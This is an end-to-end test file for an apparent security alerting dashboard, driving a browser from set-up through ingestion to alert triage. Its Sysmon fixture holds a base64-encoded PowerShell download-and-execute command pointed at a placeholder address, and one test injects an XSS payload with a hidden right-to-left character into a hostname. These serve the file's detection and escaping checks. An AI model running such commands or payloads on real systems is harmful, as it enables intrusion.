// The one path that must never break: from the set-up link to an alert that is understood.
// AURORA_BIN=../target/debug/aurora npm run e2e
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { startAurora } from "./aurora.mjs";
import { violations } from "./axe.mjs";
import { launch, openPage } from "./browser.mjs";

const RULE = "Office Starts PowerShell That Fetches From Bare Address";
const PASSWORD = "copper kettle on a cold roof";
// Sysmon's report of a process that the rule finds.
const FETCH = {
  EventID: 1,
  Channel: "Microsoft-Windows-Sysmon/Operational",
  SourceName: "Microsoft-Windows-Sysmon",
  "@timestamp": new Date().toISOString().slice(0, 19) + "Z",
  Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
  CommandLine:
    "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADUANQAvAGIAJwApAA==",
  ParentImage: "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
};
let aurora;
let browser;

before(async () => {
  aurora = await startAurora();
  browser = await launch();
});

after(async () => {
  await browser?.close();
  await aurora?.stop();
});

const accessible = async (page, where) => assert.deepEqual(await violations(page), [], where);

/** The event and the token of the line that the page gives for a shell. */
function ofCommand(line) {
  const token = line.match(/Bearer ([^']+)'/)[1];
  const event = JSON.parse(line.match(/--data-binary '(.*)'$/s)[1]);
  return { token, event };
}

async function send(token, event) {
  const headers = { Authorization: `Bearer ${token}`, "Content-Type": "application/json" };
  const response = await fetch(`${aurora.ingest}/api/v1/events`, { method: "POST", headers, body: JSON.stringify(event) });
  assert.equal(response.status, 200, await response.text());
}

test("an event becomes an alert that appears by itself and shows what matched", { timeout: 120_000 }, async () => {
  const { page, complaints } = await openPage(browser);

  await page.goto(aurora.setup_link);
  await accessible(page, "set-up");
  await page.getByLabel("Name").fill("mira");
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByRole("button", { name: "Make the account" }).click();

  await page.getByRole("heading", { name: "No alerts yet" }).waitFor();
  await page.getByText("Live", { exact: true }).waitFor();
  await accessible(page, "empty list");
  await page.getByRole("button", { name: "Make a token for it" }).click();
  await page.getByText("The token is shown this once").waitFor();
  const { token, event } = ofCommand(await page.getByTestId("curl").innerText());
  await send(token, event);

  const row = page.getByRole("row").filter({ hasText: RULE });
  await row.waitFor();
  assert.match(await row.innerText(), /High[\s\S]*New[\s\S]*PC-01/);
  await accessible(page, "list");

  await page.keyboard.press("j");
  await page.keyboard.press("Enter");
  const matched = page.getByTestId("matched");
  await matched.waitFor();
  assert.match(await matched.innerText(), /CommandLine[\s\S]*powershell -w hidden -enc/);
  const raw = page.getByLabel("Event", { exact: true });
  await raw.waitFor();
  await page.getByText("from first-events").waitFor();
  assert.match(await raw.innerText(), /"OriginalFileName":\s*"PowerShell\.EXE"/);
  assert.match((await raw.locator("mark").allInnerTexts()).join("\n"), /WINWORD\.EXE/);
  await accessible(page, "panel");

  // The default mode is dry_run: a change is shown and not made.
  await page.keyboard.press("c");
  await page.getByText("Nothing was stored.").waitFor();
  await accessible(page, "preview");
  await page.keyboard.press("Escape");

  await page.getByRole("link", { name: "Own page" }).click();
  await page.waitForURL(/\/alerts\/[0-9a-f-]{36}$/);
  await page.getByText("T1059.001").first().waitFor();
  await accessible(page, "page of the alert");

  assert.deepEqual(complaints, []);
});

test("what an attacker wrote is text, and what cannot be seen is named", { timeout: 60_000 }, async () => {
  const { page, complaints } = await openPage(browser, { colorScheme: "light" });
  await logIn(page);
  // A pointer over the list would hold new rows back, and say so.
  await page.mouse.move(2, 2);
  const token = await makeToken(page);
  const Hostname = "<img src=x onerror=document.title='owned'>\u202egpj";
  await send(token, { ...FETCH, Hostname });
  const row = page.getByRole("row").filter({ hasText: "<img src=x onerror" });
  await row.waitFor();
  assert.equal(await row.locator(".hidden-character").first().innerText(), "RLO");
  await row.click();
  await page.getByTestId("matched").waitFor();
  await page.getByLabel("Event", { exact: true }).waitFor();
  await accessible(page, "panel with hostile text");
  assert.notEqual(await page.title(), "owned");
  assert.deepEqual(complaints.filter((line) => !line.includes("401")), []);
});

test("in real what somebody does is stored, and whoever looks sees it", { timeout: 60_000 }, async () => {
  const [{ page: mine }, { page: other }] = [await openPage(browser), await openPage(browser)];
  await logIn(mine);
  await ask(mine, "PUT", "/system/mode", { mode: "real", reason: "the exercise is over" });
  await logIn(other);
  const rowOf = (page) => page.getByRole("row").filter({ hasText: "PC-01" });

  await rowOf(mine).click();
  await mine.getByText("Real", { exact: true }).waitFor();
  await mine.getByRole("button", { name: "Claim" }).click();
  await rowOf(other).filter({ hasText: "You" }).waitFor();
  await mine.getByPlaceholder("What you found").fill("A test of the alarm");
  await mine.getByRole("button", { name: "Comment" }).click();
  await mine.getByText("A test of the alarm").waitFor();
  await mine.getByLabel("Close with a verdict").selectOption("benign");
  await rowOf(other).filter({ hasText: "Resolved" }).waitFor();

  assert.equal((await ask(mine, "GET", "/audit/verify")).is_whole, true);
});

async function logIn(page) {
  await page.goto(`${aurora.dashboard}/login?next=/alerts?status=open`);
  await page.getByLabel("Name").fill("mira");
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByRole("button", { name: "Log in" }).click();
  await page.waitForURL(/\/alerts\?status=open$/);
  await page.getByText("Live", { exact: true }).waitFor();
}

/** A request in the page's own session. */
function ask(page, method, path, body) {
  return page.evaluate(
    async ([method, path, body]) => {
      const headers = { "Content-Type": "application/json", "X-Aurora-Request": "1" };
      const response = await fetch(`/api/v1${path}`, { method, headers, ...(body && { body: JSON.stringify(body) }) });
      if (!response.ok) throw new Error(await response.text());
      return response.json();
    },
    [method, path, body],
  );
}

async function makeToken(page) {
  const source = await ask(page, "POST", "/sources", { name: "hostile" });
  return (await ask(page, "POST", `/sources/${source.id}/tokens`, { name: "test" })).token;
}
